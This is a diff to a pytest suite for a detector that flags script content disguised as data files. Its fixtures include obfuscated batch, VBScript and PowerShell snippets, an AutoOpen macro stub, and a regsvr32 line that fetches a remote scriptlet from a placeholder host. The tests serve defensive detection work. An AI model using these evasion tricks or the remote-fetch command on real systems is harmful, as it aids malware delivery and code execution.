@@ -42,6 +42,10 @@ def test_names(extension):
     (b"<?xml version='1.0'?><libraryDescription/>", "SCRIPT-SHELL-FILE"),
     (b"<?xml version='1.0'?><MMC_ConsoleFile ConsoleVersion='3.0'/>", "SCRIPT-SHELL-FILE"),
     (b"[version]\r\nsignature=$chicago$\r\n", "SCRIPT-SETUP"),
+    (b"\xff\xfe\r\n&@cls&@echo off\r\nstart calc.exe\r\n", "SCRIPT-BATCH"),
+    (b"@e^c^h^o o^f^f\r\n", "SCRIPT-BATCH"), (b"#SingleInstance force\r\n", "SCRIPT-HOST"),
+    (b"Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n", "SCRIPT-HOST"),
+    (b"<?xml version='1.0'?><plist><dict><key>ProgramArguments</key><array/></dict></plist>", "SCRIPT-SHELL-FILE"),
 ])
 def test_content_under_another_name(data, code):
     assert [(f.code, f.severity) for f in look(data, "a.dat")] == [(code, Severity.HIGH)]
@@ -81,7 +85,10 @@ def test_hostile_beginnings_are_linear(data):
     (b"$c = New-Object System.Net.WebClient\r\n", "SCRIPT-HOST"),
     (b"regsvr32 /s /u /i:http://h.example/a.sct scrobj.dll\r\n", "SCRIPT-BATCH"),
     (b"rem\r\nstart \"\" %TEMP%\\a.exe\r\n", "SCRIPT-BATCH"),
-    (b"<?php system(1);", "SCRIPT-SHELL"),
+    (b"<?php system(1);", "SCRIPT-SHELL"), (b"<?= system($x); ?>", "SCRIPT-SHELL"), (b"os.execute('calc')", "SCRIPT-SHELL"),
+    (b"x=Chr(87)&Chr(83)&Chr(99)&Chr(114)&Chr(105)&Chr(112)&Chr(116)\r\n", "SCRIPT-HOST"),
+    (b"Set o = CreateObject(StrReverse(\"llehS.tpircSW\"))\r\n", "SCRIPT-HOST"), (b"o=WScript['Crea'+'teObject'](a);", "SCRIPT-HOST"),
+    (b"%COMSPEC% /c start calc.exe\r\n", "SCRIPT-BATCH"), (b"powershell -w hidden -c calc\r\n", "SCRIPT-HOST"),
     (b"[Desktop Entry]\nType=Application\nExec=/bin/x\n", "SCRIPT-SHELL-FILE"),
     (b"[autorun]\r\nopen=a.exe\r\n", "SCRIPT-SETUP"),
 ])
@@ -93,7 +100,8 @@ def test_code_under_a_name_that_promises_no_text(data, code, name):
 @pytest.mark.parametrize(("data", "names"), [
     (b"var s = new ActiveXObject('WScript.Shell');\r\n", ("review.txt",)), (b"var s = new ActiveXObject('WScript.Shell');\r\n", ()),
     (b"Start the service at https://h.example/\n", ("README",)), (b"certutil is a program\n", ("README",)),
-    (b"Call Bob: https://meet.example/\n", ("note",)),
+    (b"Call Bob: https://meet.example/\n", ("note",)), (b"PowerShell is a shell - compare it with others\n", ("note",)),
+    (b"CHR(10) and CHR(13) end lines\n", ("note",)), (b"We set up CreateObject calls. Set limits.\n", ("note",)),
 ])
 def test_prose_about_code_is_no_code(data, names):
     assert not [f for f in look(data, *names) if f.severity >= Severity.HIGH]
